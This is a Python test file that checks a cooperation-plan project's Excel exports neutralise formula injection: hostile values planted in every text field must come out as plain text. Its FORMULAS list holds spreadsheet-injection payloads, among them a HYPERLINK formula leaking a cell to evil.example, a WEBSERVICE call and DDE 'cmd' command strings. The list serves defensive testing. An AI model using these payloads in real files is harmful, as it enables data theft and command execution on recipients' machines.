"""No workbook the project writes carries a formula from data: hostile names in every
text field (an indicator's name becomes a header of the reports form) come out as text
in every cell, headers included (issue 30, item 4)."""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook

from coopplan.data import loader, yamlio
from coopplan.exchange import exports, spreadsheet
from coopplan.views.filters import Filters
from tests.helpers import ROOT, valid_action, valid_report, write_action, write_report

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    '=WEBSERVICE("http://evil.example")',
]
ASOF = dt.date(2026, 4, 5)


def hostile_data(data_dir, formula: str):
    every = {"kk": formula, "ru": formula, "en": formula}
    for side_lead, number in (("joint", 1), ("omsk", 2), ("pavlodar", 3)):
        action = valid_action(
            f"zz-{number:03d}",
            lead=side_lead,
            title=every,
            description=every,
            outcome=every,
            location=every,
            responsible={"pavlodar": [formula], "omsk": [formula]},
            start="2026-Q1",
            end="2026-12",
            budget={"amount": 1500, "currency": "KZT", "source": formula},
            indicators=[{"id": f"hostile-{number}", "name": every, "unit": every, "target": 3, "actual": 1}],
        )
        write_action(data_dir, action)
        sides = ("pavlodar", "omsk") if side_lead == "joint" else (side_lead,)
        for side in sides:
            report = valid_report(f"zz-{number:03d}", side, "2026-Q1", done=every, evidence=[formula], progress=20)
            write_report(data_dir, report)
    plan = yamlio.loads((data_dir / "plan.yaml").read_bytes())
    plan["title"] = every
    (data_dir / "plan.yaml").write_text(yamlio.dumps(plan), encoding="utf-8")
    memorandum = yamlio.loads((data_dir / "memorandum.yaml").read_bytes())
    memorandum["areas"][0]["name"] = every  # an area's name heads a summary row
    (data_dir / "memorandum.yaml").write_text(yamlio.dumps(memorandum), encoding="utf-8")
    dataset = loader.load(data_dir)
    assert not dataset.problems, dataset.problems
    return dataset


def every_workbook(dataset) -> dict[str, bytes]:
    """Each workbook the project writes, in each language."""
    books: dict[str, bytes] = {}
    for lang in ("kk", "ru", "en"):
        books[f"plan-{lang}"] = exports.export(dataset, dataset.actions, "xlsx", lang, Filters(q="="))
        books[f"template-{lang}"] = spreadsheet.template_xlsx(dataset, lang)
        books[f"implementation-{lang}"] = exports.implementation(
            dataset, dataset.actions, "2026-Q1", Filters(), ASOF, "xlsx", lang
        )
        for side in ("pavlodar", "omsk"):
            books[f"form-{side}-{lang}"] = exports.reports_form(dataset, dataset.actions, side, "2026-Q1", ASOF, lang)
    return books


def test_the_workbooks_walked_here_are_every_one_the_project_writes():
    makers = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "coopplan").rglob("*.py")
        if re.search(r"\bWorkbook\(\)", path.read_text(encoding="utf-8"))
    }
    assert makers == {"coopplan/exchange/spreadsheet.py", "coopplan/exchange/report_sheets.py"}
    savers = [
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "coopplan").rglob("*.py")
        if re.search(r"book\.save\(", path.read_text(encoding="utf-8"))
    ]
    assert savers == ["coopplan/exchange/spreadsheet.py"]  # the one writer: spreadsheet.workbook_bytes


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_any_workbook_is_a_formula_whatever_the_data_holds(data_dir, formula):
    dataset = hostile_data(data_dir, formula)
    for name, data in every_workbook(dataset).items():
        book = load_workbook(io.BytesIO(data))
        seen = 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(spreadsheet.FORMULA_STARTS), (name, cell.coordinate)
                        seen += formula in cell.value
        assert seen, f"{name}: the hostile text is in no cell"


def test_an_indicator_named_as_a_formula_heads_the_reports_form_as_text(data_dir):
    dataset = hostile_data(data_dir, FORMULAS[0])
    book = load_workbook(io.BytesIO(exports.reports_form(dataset, dataset.actions, "omsk", "2026-Q1", ASOF, "ru")))
    headers = [cell.value for cell in next(iter(book.active.iter_rows(min_row=3, max_row=3)))]
    assert "'" + FORMULAS[0] + " ('" + FORMULAS[0] + ")" in headers or any(
        h and h.startswith("'" + FORMULAS[0]) for h in headers
    )
